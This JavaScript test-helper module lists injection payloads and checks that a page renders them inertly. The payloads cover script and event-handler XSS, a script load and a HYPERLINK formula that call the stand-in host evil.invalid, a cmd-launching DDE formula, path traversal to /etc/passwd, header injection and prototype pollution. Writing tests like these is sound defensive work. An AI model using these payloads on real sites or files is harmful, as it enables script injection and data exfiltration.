// What ill-meant people put into links, attributes, messages, files and texts, and how to tell that it came to nothing.
import assert from "node:assert/strict";

const elsewhere = "https://evil.invalid/";

/** Each would call hit() where it were run, or ask for something elsewhere where it were loaded. */
export const payloads = {
  "a script": "<script>hit()</script>",
  "a picture's handler": "<img src=x onerror=hit()>",
  "a drawing's handler": "<svg onload=hit()><animate onbegin=hit() attributeName=x>",
  "the end of an attribute": `" onfocus=hit() autofocus tabindex=1 x="`,
  "the end of a style and a script": "</style></script><script>hit()</script>",
  "the end of a CDATA section": `]]></text><script xlink:href="${elsewhere}"/>`,
  "an entity": "&lt;img src=x onerror=hit()&gt;&#60;script&#62;hit()&#60;/script&#62;",
  "a javascript: address": "javascript:hit()",
  "a data: address": "data:text/html,<script>parent.hit()</script>",
  "a path elsewhere": `//evil.invalid/x.js?${elsewhere}`,
  "a parent's path": "../../../../etc/passwd%00",
  "a style's address": `red;background:url(${elsewhere});}*{background:url(${elsewhere})}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that must not be taken for a template
  "a template": "${hit()}{{hit()}}<%hit()%>#{hit()}",
  "a prototype": "__proto__",
  "a prototype's value": '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  "a function's name": "constructor",
  "a formula": `=HYPERLINK("${elsewhere}?"&A1)`,
  "a formula by sign": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a line break and a header": "a\r\nSet-Cookie: x=1\r\n\r\n<script>hit()</script>",
  "a NUL": "a\0b<script>hit()</script>",
  "letters that turn round": "\u202Egpj.<script>hit()</script>\u2066\u200F",
  "half a letter": "\uD800<script>hit()</script>\uDC00",
  "a large number": "9".repeat(400),
  "a larger number": "1e999999",
  "no number": "NaN",
  "an endless number": "-Infinity",
  "a very long text": `${"A".repeat(1_000_000)}<script>hit()</script>`,
  "a deep nest": `${"[".repeat(50_000)}${'{"a":'.repeat(50_000)}`,
};

/** Its beginning as an address can hold it: without halves of letters. */
export const addressable = (text, letters) => Buffer.from(text.slice(0, letters)).toString();

/** Runs in a page before its own scripts. */
export function watchForHits() {
  window.hits = [];
  window.hit = () => window.hits.push(new Error("run").stack);
  for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => window.hit();
}

/** Every element of the page, through shadow roots and frames of its origin, by name; and what none of them may have. */
function survey() {
  const names = {};
  const bad = [];
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      names[element.localName] = (names[element.localName] ?? 0) + 1;
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || (/^(href|src|action|xlink:href)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)))
          bad.push(`${element.localName} ${name}="${value}"`);
      }
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  const able = ["script", "iframe", "object", "embed", "base", "meta", "link", "img", "image", "foreignObject", "animate", "form"];
  return { able: able.map((name) => [name, names[name] ?? 0]), bad, polluted: {}.polluted ?? Object.prototype.constructor !== Object };
}

/** Tells whether anything of what has been brought to a page since has run, has been asked for, or has become more than text. */
export async function guard(page) {
  const asked = [];
  const dialogs = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  const before = await page.evaluate(survey);
  return async (what) => {
    const now = await page.evaluate(survey);
    assert.deepEqual(now, before, what);
    assert.deepEqual(await page.evaluate(() => window.hits), [], what);
    assert.deepEqual(
      asked.splice(0).filter((url) => !/^(blob|data):|\/favicon\.svg$/.test(url)),
      [],
      what,
    );
    assert.deepEqual(dialogs, [], what);
  };
}
